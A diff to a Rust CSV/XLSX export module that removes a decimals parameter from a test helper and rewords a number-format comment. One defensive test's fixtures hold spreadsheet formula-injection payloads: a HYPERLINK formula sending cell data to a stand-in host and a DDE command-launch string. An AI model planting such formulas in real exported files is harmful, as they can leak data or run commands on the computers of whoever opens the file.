@@ -157,7 +157,8 @@ fn write_sheet(
     Ok(())
 }
 
-/// Shows a number with the indicator's decimals: `0.00` shows 2.6 as 2.60.
+/// Shows a number with `decimals` places: a spreadsheet number keeps no trailing zeros of its
+/// own, so `0.00` is what shows a value published as 2.60 as 2.60.
 fn number_format(decimals: u32) -> Format {
     let pattern = if decimals == 0 {
         "0".to_owned()
@@ -787,7 +788,7 @@ mod tests {
     use super::*;
     use crate::domain::plan::{ObservationKind, ObservationState};
 
-    fn row(value: &str, decimals: u32) -> FigureRow {
+    fn row(value: &str) -> FigureRow {
         FigureRow {
             plan: "demo".into(),
             indicator: "rd".into(),
@@ -796,7 +797,6 @@ mod tests {
             year: 2024,
             kind: ObservationKind::Actual,
             value: Decimal::from_str(value).unwrap(),
-            decimals,
             unit: "%".into(),
             state: ObservationState::Published,
             source: "统计公报".into(),
@@ -807,12 +807,7 @@ mod tests {
 
     #[test]
     fn csv_starts_with_a_byte_order_mark_and_reads_back_exactly() {
-        let rows = [
-            row("2.60", 2),
-            row("45000", 0),
-            row("0.0000001", 7),
-            row("65", 2),
-        ];
+        let rows = [row("2.60"), row("45000"), row("0.0000001"), row("65")];
         let bytes = write_csv(&rows);
         assert!(bytes.starts_with(b"\xEF\xBB\xBFplan,indicator,name_en,"));
         let table = read_csv(&bytes, &Budget::unlimited()).unwrap();
@@ -857,14 +852,14 @@ mod tests {
     #[test]
     fn xlsx_numbers_read_back_as_the_same_decimal() {
         let values = [
-            ("2.6", 2),
-            ("2.45", 2),
-            ("0.1", 1),
-            ("974.24", 2),
-            ("75600", 0),
-            ("12345678901234567.89", 2),
+            "2.6",
+            "2.45",
+            "0.1",
+            "974.24",
+            "75600",
+            "12345678901234567.89",
         ];
-        let rows: Vec<FigureRow> = values.iter().map(|(v, d)| row(v, *d)).collect();
+        let rows: Vec<FigureRow> = values.into_iter().map(row).collect();
         let bytes = write_xlsx(&rows, &[]).unwrap();
         let table = read_xlsx(&bytes, &Budget::unlimited()).unwrap();
         assert_eq!(table.header.len(), FIGURE_COLUMNS.len());
@@ -899,7 +894,7 @@ mod tests {
 
     #[test]
     fn csv_prefixes_formula_text_and_reads_it_back_exactly() {
-        let mut r = row("-1.5", 1);
+        let mut r = row("-1.5");
         r.source = "=HYPERLINK(\"http://x.example/?\"&A1,\"x\")".into();
         r.note = "+cmd|' /C calc'!A0".into();
         r.commentary = "@SUM(1+1)".into();
